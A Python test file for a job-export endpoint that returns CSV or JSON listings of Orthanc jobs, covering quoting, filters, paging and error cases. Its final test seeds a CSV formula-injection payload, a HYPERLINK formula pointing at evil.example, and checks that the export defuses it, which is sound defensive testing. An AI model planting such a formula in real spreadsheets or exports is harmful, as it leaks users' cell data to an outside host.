"""``GET /orthanc-jobs/export``: a listing's jobs as a CSV or JSON file, with the listing's filters and
paging."""

import csv
import io
import re

import httpx

from orthanc_jobs.core.wire import CSV_COLUMNS
from tests.unit.api.conftest import public
from tests.unit.fake_orthanc import FakeOrthanc

URL1, URL2 = "http://127.0.0.1:8001", "http://127.0.0.1:8002"


async def _jobs(service: httpx.AsyncClient, orthanc: FakeOrthanc) -> list[str]:
    ids = []
    for number, (url, state, fields) in enumerate(
        [
            (URL1, "Success", {"Content": {"Description": 'Ward 7, "nightly"\nsecond line', "Size": 3}}),
            (URL2, "Failure", {"ErrorCode": 37, "ErrorDescription": "Canceled, by a user", "Content": {}}),
            (URL1, "Running", {"Progress": 42}),
        ]
    ):
        job_id = orthanc.add_job(url, state, f"20261128T10000{number}.000000")
        orthanc.jobs[url][job_id].update(fields)
        if state != "Running":
            orthanc.jobs[url][job_id]["CompletionTime"] = f"20261128T11000{number}.000000"
        assert (await service.get(f"/jobs/{job_id}", headers=public())).status_code == 200
        ids.append(job_id)
    return ids


async def test_the_csv_export_reads_back_with_its_quoting(
    service: httpx.AsyncClient, orthanc: FakeOrthanc
) -> None:
    ward, canceled, running = await _jobs(service, orthanc)
    answer = await service.get("/orthanc-jobs/export?format=csv", headers=public())
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r"attachment; filename=orthanc-jobs-\d{8}T\d{6}Z\.csv", answer.headers["content-disposition"]
    )
    assert answer.headers["X-Total-Count"] == "3"
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert rows[0] == {
        "ID": ward,
        "Type": "Archive",
        "State": "Success",
        "Server": "orthanc-1",
        "Progress": "0",
        "CreationTime": "20261128T100000.000000",
        "CompletionTime": "20261128T110000.000000",
        "ErrorCode": "0",
        "ErrorDescription": "",
        "Description": 'Ward 7, "nightly"\nsecond line',
    }
    assert (rows[1]["ID"], rows[1]["Server"], rows[1]["ErrorCode"]) == (canceled, "orthanc-2", "37")
    assert (rows[1]["ErrorDescription"], rows[1]["Description"]) == ("Canceled, by a user", "")
    assert (rows[2]["ID"], rows[2]["Progress"], rows[2]["CompletionTime"]) == (running, "42", "")


async def test_the_export_takes_the_listings_filters_and_paging(
    service: httpx.AsyncClient, orthanc: FakeOrthanc
) -> None:
    ward, canceled, _ = await _jobs(service, orthanc)
    filtered = await service.get("/orthanc-jobs/export?q=ward&format=csv", headers=public())
    assert [row["ID"] for row in csv.DictReader(io.StringIO(filtered.text))] == [ward]
    paged = await service.get("/orthanc-jobs/export?limit=1&offset=1", headers=public())  # CSV by default
    assert [row["ID"] for row in csv.DictReader(io.StringIO(paged.text))] == [canceled]
    assert paged.headers["X-Total-Count"] == "3"
    empty = await service.get("/orthanc-jobs/export?status=Paused", headers=public())
    assert empty.text == ",".join(CSV_COLUMNS) + "\r\n"


async def test_the_json_export_is_the_expanded_listing(
    service: httpx.AsyncClient, orthanc: FakeOrthanc
) -> None:
    await _jobs(service, orthanc)
    for query in ["", "&status=Success,Failure", "&status=Paused", "&limit=2&offset=1"]:
        listed = await service.get(f"/jobs?expand{query}", headers=public())
        exported = await service.get(f"/orthanc-jobs/export?format=JSON{query}", headers=public())
        assert exported.headers["content-type"] == "application/json"
        assert exported.headers["content-disposition"].endswith(".json")
        assert exported.content == listed.content
        assert exported.headers["X-Total-Count"] == listed.headers["X-Total-Count"]


async def test_an_export_asked_wrong_is_a_bad_request(service: httpx.AsyncClient) -> None:
    answer = await service.get("/orthanc-jobs/export?format=xlsx", headers=public())
    assert answer.status_code == 400 and "format: 'xlsx' is not one of csv, json" in answer.json()["Message"]
    assert (await service.get("/orthanc-jobs/export?created-since=soon", headers=public())).status_code == 400
    assert (await service.get("/orthanc-jobs/export")).status_code == 401


async def test_the_csv_export_keeps_formulas_out_of_spreadsheets(
    service: httpx.AsyncClient, orthanc: FakeOrthanc
) -> None:
    job_id = orthanc.add_job(URL1, "Failure", "20261128T100000.000000")
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    orthanc.jobs[URL1][job_id].update({"ErrorCode": -1, "Content": {"Description": hyperlink}})
    assert (await service.get(f"/jobs/{job_id}", headers=public())).status_code == 200
    answer = await service.get("/orthanc-jobs/export?format=csv", headers=public())
    [row] = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8"), newline="")))
    assert (row["Description"], row["ErrorCode"]) == (f"'{hyperlink}", "-1")
